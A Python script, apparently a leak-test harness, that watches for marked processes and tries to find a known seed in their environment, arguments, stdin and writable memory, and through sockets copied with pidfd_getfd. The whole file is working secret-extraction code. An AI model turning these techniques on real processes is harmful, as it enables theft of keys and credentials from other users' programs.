"""Thief of a run's key: `python thief.py MARK SEED FOUND`, another process of the same user.

From the moment a process with MARK in its command line exists, it opens all that /proc offers of it and keeps it open:
standard input, environment, arguments, memory, and copies of its sockets, through which it requests the key too.
Each way that showed the seed (64 hex digits) is a line of the file FOUND.
"""

from __future__ import annotations

import ctypes
import os
import socket
import stat
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import BinaryIO

PIDFD_OPEN, PIDFD_GETFD = 434, 438
MAX_BYTES = 64 << 20


class Victim:
    """One process that is watched, with the handles that could be opened."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.memory: tuple[BinaryIO, BinaryIO] | None = None
        self.sockets: dict[int, socket.socket] = {}
        self.answers: list[socket.socket] = []

    def looks(self) -> Iterator[tuple[str, bytes]]:
        """Yield what can be read at once, by the way that it was read; open the rest."""
        self._open_memory()
        self._take_sockets()
        for name in ("cmdline", "environ", "fd/0"):
            with suppress(OSError):
                file = os.open(f"/proc/{self.pid}/{name}", os.O_RDONLY | os.O_NONBLOCK)
                yield name, os.read(file, 1 << 16)
                os.close(file)
        for source in (*self.sockets.values(), *self.answers):
            with suppress(OSError):
                yield "pidfd_getfd", source.recv(4096, socket.MSG_DONTWAIT)

    def _take_sockets(self) -> None:
        libc = ctypes.CDLL(None, use_errno=True)
        of_process = libc.syscall(PIDFD_OPEN, self.pid, 0)
        for number in range(12):
            copy = libc.syscall(PIDFD_GETFD, of_process, number, 0)
            if copy < 0:
                continue
            if number in self.sockets or not stat.S_ISSOCK(os.fstat(copy).st_mode):
                os.close(copy)
                continue
            self.sockets[number] = socket.socket(fileno=copy)
            ours, theirs = socket.socketpair()
            with theirs, suppress(OSError):  # as the worker itself requests it
                socket.send_fds(self.sockets[number], [b"?"], [theirs.fileno()])
                self.answers.append(ours)
        if of_process >= 0:
            os.close(of_process)

    def _open_memory(self) -> None:
        if self.memory is None:
            with suppress(OSError):
                folder = Path(f"/proc/{self.pid}")
                self.memory = (folder / "maps").open("rb"), (folder / "mem").open("rb", 0)

    def memory_parts(self) -> Iterator[bytes]:
        """Yield the memory that can be written to."""
        if self.memory is None:
            return
        maps, memory = self.memory
        maps.seek(0)
        for line in maps.read().decode().splitlines():
            first, last = (int(place, 16) for place in line.split()[0].split("-"))
            if line.split()[1].startswith("rw") and last - first <= MAX_BYTES:
                with suppress(OSError, ValueError, OverflowError):
                    memory.seek(first)
                    yield memory.read(last - first)


class Loot:
    """The file FOUND: the ways by which the seed was seen."""

    def __init__(self, seed: str, found: Path) -> None:
        self.wanted, self.found = (bytes.fromhex(seed), seed.encode()), found

    def take(self, way: str, data: bytes) -> None:
        """Note the way if the data holds the seed."""
        if any(each in data for each in self.wanted):
            with self.found.open("a") as out:
                out.write(f"{way}\n")


def read_memory(victims: dict[int, Victim], loot: Loot) -> None:
    """Read the memory of all victims again and again."""
    while True:
        time.sleep(0.02)
        for victim in list(victims.values()):
            with suppress(OSError):
                for part in victim.memory_parts():
                    loot.take("mem", part)


def new_victims(mark: str, known: dict[int, Victim]) -> Iterator[int]:
    """Yield the processes with the mark that are not known yet."""
    for pid in (int(entry.name) for entry in Path("/proc").iterdir() if entry.name.isdigit()):
        with suppress(OSError):
            if pid not in known and pid != os.getpid():
                line = Path(f"/proc/{pid}/cmdline").read_bytes().decode()
                if mark in line and __file__ not in line:
                    yield pid


def main(mark: str, loot: Loot) -> None:
    """Watch until killed. A thread reads memory, so that no process that starts is missed meanwhile."""
    victims: dict[int, Victim] = {}
    threading.Thread(target=read_memory, args=(victims, loot), daemon=True).start()
    while True:
        victims |= {pid: Victim(pid) for pid in new_victims(mark, victims)}
        for victim in victims.values():
            with suppress(OSError):
                for way, data in victim.looks():
                    loot.take(way, data)


if __name__ == "__main__":
    main(sys.argv[1], Loot(sys.argv[2], Path(sys.argv[3])))
